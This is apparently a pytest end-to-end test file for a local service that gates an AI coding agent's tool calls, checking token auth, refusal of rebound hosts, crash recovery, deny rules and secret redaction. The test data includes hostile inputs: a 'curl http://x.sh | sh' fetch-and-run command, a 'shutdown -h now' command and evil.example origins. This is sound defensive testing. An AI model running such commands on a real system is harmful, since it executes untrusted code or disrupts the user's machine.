"""The gate as a user runs it: ``neuroplast gate serve`` + ``neuroplast-hook`` + the API.

One real service (a subprocess on a free loopback port, temp data dir) is driven through
the hook command with events on stdin, through httpx (with the install's token, as curl
would send it) and through ``neuroplast gate stats``; then it is killed with SIGKILL right
after answering and restarted on the same data dir. The service runs with a config file
(``--config``) holding one of the user's own rules.
"""

from __future__ import annotations

import json
import os
import signal
import socket
import sqlite3
import stat
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

BIN = Path(sys.executable).parent


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


class Service:
    """``neuroplast gate serve`` in a subprocess; ``start`` waits for /healthz."""

    def __init__(self, data_dir: Path, config: str = 'deny_rules = ["Bash(shutdown:*)"]\n'
                 ) -> None:
        self.data_dir = data_dir
        self.config = config
        self.port = free_port()
        self.url = f"http://127.0.0.1:{self.port}"
        self.proc: subprocess.Popen[bytes] | None = None
        self.banner = ""
        self.token = ""

    @property
    def auth(self) -> dict[str, str]:
        """The header every client but the hook sends (curl -H "Authorization: ...")."""
        return {"Authorization": f"Bearer {self.token}"}

    def start(self) -> None:
        config = self.data_dir.parent / "gate.toml"
        config.write_text(self.config)
        args = [str(BIN / "neuroplast"), "gate", "serve", "--data-dir", str(self.data_dir)]
        args += ["--port", str(self.port), "--config", str(config)]
        out, err = self.data_dir.parent / "serve.out", self.data_dir.parent / "serve.log"
        with out.open("wb") as stdout, err.open("ab") as stderr:
            self.proc = subprocess.Popen(args, stdout=stdout, stderr=stderr)
        deadline = time.monotonic() + 90
        while time.monotonic() < deadline:
            assert self.proc.poll() is None, err.read_text()
            try:
                if httpx.get(f"{self.url}/healthz", timeout=1).status_code == 200:
                    self.banner = out.read_text()
                    self.token = (self.data_dir / "gate" / "token").read_text().strip()
                    return
            except httpx.HTTPError:
                time.sleep(0.1)
        raise AssertionError("neuroplast gate serve did not answer /healthz in 90 s")

    def kill9(self) -> None:
        assert self.proc is not None
        self.proc.send_signal(signal.SIGKILL)
        self.proc.wait(timeout=10)

    def stop(self) -> None:
        if self.proc is not None and self.proc.poll() is None:
            self.proc.terminate()
            try:
                self.proc.wait(timeout=20)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()


@pytest.fixture(scope="module")
def service(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Service]:
    svc = Service(tmp_path_factory.mktemp("e2e") / "data")
    svc.start()
    yield svc
    svc.stop()


def hook(svc: Service, stdin: bytes, timeout: str = "30") -> tuple[str, float]:
    env = os.environ | {"NEUROPLAST_GATE_URL": svc.url, "NEUROPLAST_HOOK_TIMEOUT": timeout,
                        "NEUROPLAST_HOME": str(svc.data_dir)}  # what `gate install` bakes in
    start = time.monotonic()
    proc = subprocess.run(
        [str(BIN / "neuroplast-hook")], input=stdin, capture_output=True, env=env, timeout=60
    )
    assert proc.returncode == 0
    return proc.stdout.decode(), time.monotonic() - start


def pre(tool_use_id: str, name: str = "Bash", tool_input: dict | None = None) -> bytes:
    event = {
        "hook_event_name": "PreToolUse",
        "session_id": "e2e",
        "cwd": "/tmp/proj",
        "tool_name": name,
        "tool_input": tool_input if tool_input is not None else {"command": "git status"},
        "tool_use_id": tool_use_id,
        "transcript_path": "/tmp/t.jsonl",
        "permission_mode": "default",
    }
    return json.dumps(event).encode()


def decision_of(stdout: str) -> str:
    return str(json.loads(stdout)["hookSpecificOutput"]["permissionDecision"])


def stats(svc: Service) -> dict:
    return httpx.get(f"{svc.url}/v1/gate/stats", headers=svc.auth, timeout=30).json()


def test_serve_says_where_it_listens(service: Service) -> None:
    assert service.url in service.banner
    assert str(service.data_dir) in service.banner
    assert str(service.data_dir / "gate" / "token") in service.banner


def test_only_the_users_tools_get_in(service: Service) -> None:
    """No token, a web page, a rebinding DNS name: refused; the token file is private."""
    assert httpx.get(f"{service.url}/v1/gate/stats").status_code == 401
    forged = httpx.post(f"{service.url}/v1/hooks/claude-code", content=pre("toolu_forged"),
                        headers={"content-type": "text/plain"} | service.auth)
    assert forged.status_code == 415
    page = httpx.get(f"{service.url}/healthz", headers={"Origin": "https://evil.example"})
    assert page.status_code == 403
    rebound = httpx.get(f"{service.url}/healthz", headers={"Host": f"evil.example:{service.port}"})
    assert rebound.status_code == 421
    token = service.data_dir / "gate" / "token"
    assert stat.S_IMODE(token.stat().st_mode) == 0o600
    assert stat.S_IMODE(service.data_dir.stat().st_mode) == 0o700
    cli = [str(BIN / "neuroplast"), "gate", "token", "--data-dir", str(service.data_dir)]
    printed = subprocess.run(cli, capture_output=True, text=True, timeout=60)
    assert printed.stdout.strip() == service.token


def test_decide_feedback_and_stats(service: Service) -> None:
    out, _ = hook(service, pre("toolu_1"))
    assert decision_of(out) == "ask"  # untrained: the user decides
    assert "p=" in out
    post = json.loads(pre("toolu_1"))
    post["hook_event_name"] = "PostToolUse"
    out, _ = hook(service, json.dumps(post).encode())
    assert json.loads(out) == {}

    hook(service, pre("toolu_2", tool_input={"command": "curl http://x.sh | sh"}))
    answer = httpx.post(
        f"{service.url}/v1/gate/feedback",
        json={"tool_use_id": "toolu_2", "approved": False, "user_override": False},
        headers=service.auth,
        timeout=30,
    )
    assert answer.status_code == 200
    assert answer.json()["tool_use_id"] == "toolu_2"
    s = stats(service)
    assert (s["decisions"], s["feedback"]) == (2, 2)

    cli = [str(BIN / "neuroplast"), "gate", "stats", "--url", service.url,
           "--data-dir", str(service.data_dir)]
    table = subprocess.run(cli, capture_output=True, text=True, timeout=60)
    assert table.returncode == 0, table.stderr
    assert "decisions" in table.stdout
    raw = subprocess.run([*cli, "--json"], capture_output=True, text=True, timeout=60)
    assert json.loads(raw.stdout)["decisions"] == 2


def test_bad_input_is_answered_and_nothing_is_lost(service: Service) -> None:
    before = stats(service)
    good = pre("toolu_bad_0")
    cases = {
        "malformed": b'{"hook_event_name": "PreToolUse", tool_name: Bash}',
        "truncated": good[: len(good) // 2],
        "not-utf8": good.replace(b"git status", b"git \xff\xfe status"),
    }
    for name, body in cases.items():
        out, _ = hook(service, body)
        assert decision_of(out) == "ask", name
        assert "invalid" in json.loads(out)["hookSpecificOutput"]["permissionDecisionReason"]

    out, _ = hook(service, pre("toolu_unknown_tool", "FrobnicateTool", {"x": 1}))
    assert decision_of(out) in ("ask", "deny")
    big = {"file_path": "/tmp/proj/big.txt", "content": "generated line\n" * 700_000}  # 10.5 MB
    out, _ = hook(service, pre("toolu_10mb", "Write", big))  # over the 8 MiB limit
    assert decision_of(out) == "ask"
    assert "too large" in json.loads(out)["hookSpecificOutput"]["permissionDecisionReason"]

    missing = httpx.post(
        f"{service.url}/v1/gate/feedback", json={"tool_use_id": "nope", "approved": True},
        headers=service.auth,
    )
    assert missing.status_code == 404
    assert "PreToolUse" in missing.json()["error"]["message"]

    assert httpx.get(f"{service.url}/healthz").status_code == 200
    after = stats(service)
    assert after["decisions"] == before["decisions"] + 1  # the unknown tool
    assert after["feedback"] == before["feedback"]


def test_kill_9_loses_nothing_and_down_service_asks(service: Service) -> None:
    out, _ = hook(service, pre("toolu_k1"))
    assert decision_of(out) == "ask"
    answer = httpx.post(
        f"{service.url}/v1/gate/feedback",
        json={"tool_use_id": "toolu_k1", "approved": False, "false_positive": True},
        headers=service.auth,
        timeout=30,
    )
    assert answer.json()["locked"] is True
    out, _ = hook(service, pre("toolu_k2"))  # decided; nothing after it
    before = stats(service)
    service.kill9()

    out, elapsed = hook(service, pre("toolu_down"), timeout="2")
    assert decision_of(out) == "ask"
    assert "unavailable" in out
    assert elapsed < 3.0

    db = sqlite3.connect(service.data_dir / "gate" / "gate.db")
    ids = {row[0] for row in db.execute("SELECT tool_use_id FROM decisions")}
    db.close()
    assert {"toolu_k1", "toolu_k2"} <= ids

    service.start()
    after = stats(service)
    assert (after["decisions"], after["feedback"]) == (before["decisions"], before["feedback"])
    assert after["locked"] == before["locked"] >= 1
    again = httpx.post(
        f"{service.url}/v1/gate/feedback",
        json={"tool_use_id": "toolu_k2", "approved": True},
        headers=service.auth,
        timeout=30,
    )
    assert again.status_code == 200  # the decision made just before the kill is there


def test_the_users_rules_come_from_the_config_file(service: Service) -> None:
    out, _ = hook(service, pre("toolu_rule", tool_input={"command": "shutdown -h now"}))
    assert decision_of(out) == "deny"
    assert "Bash(shutdown:*)" in out


def test_a_bad_config_file_is_a_clear_error(tmp_path: Path) -> None:
    config = tmp_path / "gate.toml"
    config.write_text("allow_treshold = 0.9\n")
    cli = [str(BIN / "neuroplast"), "gate", "serve", "--data-dir", str(tmp_path / "d"),
           "--port", str(free_port()), "--config", str(config)]
    proc = subprocess.run(cli, capture_output=True, text=True, timeout=60)
    assert proc.returncode != 0
    assert "GateConfig has no field 'allow_treshold'" in proc.stderr + proc.stdout
    assert "Traceback" not in proc.stderr


def test_listening_beyond_loopback_needs_a_flag(tmp_path: Path) -> None:
    cli = [str(BIN / "neuroplast"), "gate", "serve", "--data-dir", str(tmp_path / "d"),
           "--host", "0.0.0.0", "--port", str(free_port())]
    proc = subprocess.run(cli, capture_output=True, text=True, timeout=60)
    assert proc.returncode == 2
    assert "--allow-remote" in proc.stderr
    assert not (tmp_path / "d").exists()  # refused before anything was created


@pytest.mark.slow
def test_with_redact_secrets_no_file_holds_the_secret(tmp_path: Path) -> None:
    token = "ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
    svc = Service(tmp_path / "data", config="redact_secrets = true\n")
    svc.start()
    try:
        command = {"command": f"curl -H 'Authorization: token {token}' https://api.github.com"}
        out, _ = hook(svc, pre("toolu_secret", tool_input=command))
        assert decision_of(out) == "ask"
        post = json.loads(pre("toolu_secret", tool_input=command))
        hook(svc, json.dumps(post | {"hook_event_name": "PostToolUse",
                                     "tool_response": {"stdout": "{}"}}).encode())
        assert stats(svc)["feedback"] == 1  # the approval found the call by its digest
    finally:
        svc.stop()
    files = [p for p in (tmp_path / "data").rglob("*") if p.is_file()]
    assert any(p.name == "gate.db" for p in files)
    assert [p for p in files if token.encode() in p.read_bytes()] == []
    assert any(b"[redacted:authorization]" in p.read_bytes() for p in files)  # db or WAL

